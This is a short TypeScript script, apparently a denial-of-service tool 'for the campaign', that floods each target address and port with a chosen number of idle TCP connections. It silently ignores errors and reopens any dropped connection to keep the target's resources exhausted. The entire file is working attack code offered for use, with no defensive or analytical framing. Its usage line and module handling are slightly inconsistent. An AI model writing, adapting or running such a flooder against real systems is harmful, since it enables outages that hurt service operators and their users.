// A connection flood for the campaign: opens COUNT connections to each ADDRESS:PORT and
// keeps them open, idle, until killed; a refused or dropped one is opened again.
// Usage: node flood.js COUNT ADDRESS:PORT [ADDRESS:PORT...]
import * as net from 'node:net';

function hold(host: string, port: number): void {
  const sock = net.connect({ host, port });
  sock.on('error', () => {});
  sock.on('close', () => setTimeout(() => hold(host, port), 200));
}

if (require.main === module) {
  const [count, ...targets] = process.argv.slice(2);
  for (const t of targets) {
    const [host, port] = t.split(':');
    for (let i = 0; i < Number(count); i++) hold(host, Number(port));
  }
}
